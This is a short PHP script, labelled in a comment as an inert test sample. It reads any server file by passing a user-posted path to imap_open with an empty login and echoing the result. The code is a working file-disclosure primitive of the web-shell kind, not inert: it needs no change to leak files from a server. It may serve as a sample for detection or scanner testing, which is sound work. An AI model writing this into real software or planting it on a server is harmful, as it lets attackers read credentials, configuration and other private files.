<?php
// inert test sample: reads a server file by opening it as a mailbox with an empty login
$name = !empty($_POST['name']) ? $_POST['name'] : 0;
$mode = !empty($_POST['mode']) ? $_POST['mode'] : 'file';
if ($name && $mode == 'file') {
    $box = imap_open($name, "", "");
    echo '<pre>' . htmlspecialchars((string) imap_body($box, 1)) . '</pre>';
    imap_close($box);
}
